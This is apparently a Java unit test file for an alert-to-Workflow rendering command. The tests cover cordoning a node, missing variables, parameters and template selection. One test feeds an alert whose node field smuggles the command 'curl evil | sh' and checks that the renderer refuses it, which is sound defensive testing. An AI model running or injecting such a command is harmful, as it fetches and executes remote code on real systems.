package io.aegis.local;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code aegis render}: the Workflow a template renders for an alert, or the exact error. */
class RenderCommandTest {
  @TempDir Path dir;
  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
  private final ByteArrayOutputStream err = new ByteArrayOutputStream();

  private int render(String... args) {
    return new RenderCommand(Renderers.engine())
        .run(
            List.of(args),
            new PrintStream(out, true, StandardCharsets.UTF_8),
            new PrintStream(err, true, StandardCharsets.UTF_8));
  }

  private static String example(String path) {
    return TestRepo.root().resolve("examples").resolve(path).toString();
  }

  @Test
  void theReadmeTemplateRendersTheCordonForTheReadmeAlert() {
    int code =
        render(
            "--template", example("nodehasemergencyevent/ops.yaml"),
            "--alert", example("nodehasemergencyevent/alert.json"));
    assertThat(code).as(err.toString()).isZero();
    assertThat(out.toString())
        .contains("kind: \"Workflow\"")
        .contains("kubectl cordon dev1")
        .contains("default-nodehasemergencyevent-");
  }

  @Test
  void aMissingVariableIsTheExactRenderErrorAndExitCode1() throws Exception {
    Path alert = dir.resolve("alert.json");
    Files.writeString(
        alert,
        "{\"type\": \"NodeHasEmergencyEvent\", \"status\": \"Firing\", \"involvedObject\": {\"kind\": \"Pod\", \"name\": \"p\", \"namespace\": \"n\"}}");
    int code =
        render(
            "--template", example("nodehasemergencyevent/ops.yaml"), "--alert", alert.toString());
    assertThat(code).isEqualTo(1);
    assertThat(err.toString()).startsWith("render error: ").contains("'node'");
    assertThat(out.toString()).isEmpty();
  }

  @Test
  void anUnsafeValueIsRefused() throws Exception {
    Path alert = dir.resolve("alert.json");
    Files.writeString(
        alert,
        "{\"type\": \"NodeHasEmergencyEvent\", \"status\": \"Firing\", \"involvedObject\": {\"kind\": \"Node\", \"name\": \"dev1\"},"
            + " \"details\": {\"node\": \"dev1; curl evil | sh\"}}");
    assertThat(
            render(
                "--template",
                example("nodehasemergencyevent/ops.yaml"),
                "--alert",
                alert.toString()))
        .isEqualTo(1);
    assertThat(err.toString()).startsWith("render error: ");
  }

  @Test
  void systemParametersAreAlertAnnotations() throws Exception {
    Path template = dir.resolve("t.yaml");
    Files.writeString(
        template,
        """
        apiVersion: aegis.io/v1alpha1
        kind: AegisOpsTemplate
        metadata: {name: t}
        spec:
          manifest: |
            apiVersion: argoproj.io/v1alpha1
            kind: Workflow
            spec:
              entrypoint: main
              templates:
              - name: main
                container: {image: busybox, command: [echo, "[=cluster]", "{{.AlertNamespace}}"]}
        """);
    int code =
        render(
            "--template",
            template.toString(),
            "--alert",
            example("nodehasemergencyevent/alert.json"),
            "--param",
            "cluster=c1");
    assertThat(code).as(err.toString()).isZero();
    assertThat(out.toString()).contains("- \"c1\"").contains("- \"monitoring\"");
  }

  @Test
  void aFileWithSeveralTemplatesNeedsANameAndUsageIsShownForMissingArguments() throws Exception {
    Path template = dir.resolve("two.yaml");
    Files.writeString(
        template,
        "apiVersion: aegis.io/v1alpha1\nkind: AegisOpsTemplate\nmetadata: {name: a}\nspec: {manifest: x}\n---\n"
            + "apiVersion: aegis.io/v1alpha1\nkind: AegisOpsTemplate\nmetadata: {name: b}\nspec: {manifest: y}\n");
    assertThat(
            render(
                "--template",
                template.toString(),
                "--alert",
                example("nodehasemergencyevent/alert.json")))
        .isEqualTo(1);
    assertThat(err.toString()).contains("several").contains("[a, b]").contains("--template-name");
    assertThat(render("--alert", "x")).isEqualTo(2);
    assertThat(err.toString()).contains("Usage: ./aegis render");
  }
}
